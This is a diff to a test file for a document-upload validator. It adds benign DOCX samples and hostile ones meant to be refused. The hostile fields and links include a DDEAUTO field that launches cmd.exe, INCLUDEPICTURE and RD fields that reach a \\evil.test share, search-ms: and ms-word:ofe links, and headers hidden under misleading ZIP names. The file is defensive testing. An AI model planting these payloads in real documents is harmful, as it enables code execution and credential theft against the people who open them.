@@ -1,6 +1,11 @@
 import { describe, expect, it } from 'vitest';
 import * as hostile from '@verdalia/test-files/hostile-files';
 import { makeRealDocuments } from '@verdalia/test-files/real-documents';
+import {
+  docxWithHeader,
+  docxWithMainDocumentAt,
+  headerPart,
+} from '@verdalia/test-files/office-packages';
 import { fieldParagraph } from '@verdalia/test-files/word-fields';
 import { file, followed, judgeEach, type Case } from './support/verdict.js';
 
@@ -41,7 +46,34 @@ const templateAt = (target: string): hostile.ZipEntry[] => [
   },
 ];
 
+/** A field fetching a picture from a network share, and one running a program. */
+const sharePicture = fieldParagraph(String.raw`INCLUDEPICTURE "\\evil.test\share\logo.png" \d `);
+const ddeAuto = fieldParagraph(String.raw`DDEAUTO c:\windows\system32\cmd.exe "/k calc.exe" `);
+
 const accepted: Case[] = [
+  file('a DOCX with a header holding a page number field', 'propuesta.docx', () =>
+    docxWithHeader(real.docx, headerPart(fieldParagraph('PAGE')), {
+      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml',
+    }),
+  ),
+  file(
+    'a DOCX with links to the web, to mail and to a bookmark (HYPERLINK fields)',
+    'propuesta.docx',
+    () =>
+      docxWith(async () => [
+        await partWith(
+          'word/document.xml',
+          '<w:sectPr',
+          [
+            'HYPERLINK "https://verdalia.example/" ',
+            'HYPERLINK "mailto:contacto@verdalia.example" ',
+            String.raw`HYPERLINK \l "_Toc123" \o "Índice" `,
+          ]
+            .map((instructions) => fieldParagraph(instructions))
+            .join(''),
+        ),
+      ])(),
+  ),
   file(
     'a DOCX written by pandoc, with a web link and a table of contents (a TOC field)',
     'propuesta.docx',
@@ -337,6 +369,89 @@ const refused: Case[] = [
         }),
       },
     ]),
+  ),
+  // Parts reached as Word reaches them, through relationships, whatever they are called.
+  file(
+    'a DOCX whose header, declared image/png, fetches a picture from a share',
+    'factura.docx',
+    () => docxWithHeader(real.docx, headerPart(sharePicture), { contentType: 'image/png' }),
+    /INCLUDEPICTURE/,
+  ),
+  file(
+    'a DOCX whose header, named header1.bin, holds a DDEAUTO field',
+    'factura.docx',
+    () => docxWithHeader(real.docx, headerPart(ddeAuto), { name: 'word/header1.bin' }),
+    /DDEAUTO/,
+  ),
+  file(
+    'a DOCX whose main document is named word/document.rels',
+    'factura.docx',
+    () => docxWithMainDocumentAt(real.docx, 'word/document.rels', sharePicture),
+    /INCLUDEPICTURE/,
+  ),
+  file(
+    'a DOCX whose header a Unicode Path extra field renames to a picture (yauzl and 7-Zip take that name)',
+    'factura.docx',
+    () => docxWithHeader(real.docx, headerPart(ddeAuto), { unicodePath: 'word/media/image1.png' }),
+    /also named/,
+  ),
+  file(
+    'a DOCX whose header’s local header names another part than its directory',
+    'factura.docx',
+    () => docxWithHeader(real.docx, headerPart(ddeAuto), { localName: 'word/media/image1.png' }),
+    /also named/,
+  ),
+  file(
+    'a DOCX with an RD field reading a document from a share',
+    'factura.docx',
+    docxWith(async () => [
+      await partWith(
+        'word/document.xml',
+        '<w:sectPr',
+        fieldParagraph(String.raw`RD "\\\\evil.test\\share\\anexo.docx" \f `),
+      ),
+    ]),
+    /RD field/,
+  ),
+  file(
+    'a DOC with an RD field reading a document from a share',
+    'factura.doc',
+    () => hostile.docWithField(real.doc, wordAnchor, String.raw`RD "\\\\evil.test\\s\\a.doc"`),
+    /RD field/,
+  ),
+  ...[
+    'search-ms:query=factura&crumb=location:%5C%5Cevil.test%5Cshare',
+    'ms-word:ofe|u|https://evil.test/plantilla.docx',
+    'file:///C:/Users/Public/factura.hta',
+  ].flatMap((target, index) => [
+    file(
+      `a DOCX with a link to ${target}`,
+      'factura.docx',
+      docxWith(async () => [
+        await documentRelsWith(
+          hostile.relationship(`rId8${index}`, 'hyperlink', target.replaceAll('&', '&amp;'), true),
+        ),
+      ]),
+      /link that/,
+    ),
+    file(
+      `a DOCX with a HYPERLINK field to ${target}`,
+      'factura.docx',
+      docxWith(async () => [
+        await partWith(
+          'word/document.xml',
+          '<w:sectPr',
+          fieldParagraph(`HYPERLINK "${target.replaceAll('&', '&amp;')}" `),
+        ),
+      ]),
+      /HYPERLINK/,
+    ),
+  ]),
+  file(
+    'a DOC with a HYPERLINK field to search-ms:',
+    'factura.doc',
+    () => hostile.docWithField(real.doc, wordAnchor, 'HYPERLINK "search-ms:query=x"'),
+    /HYPERLINK/,
   ),
 ];
 
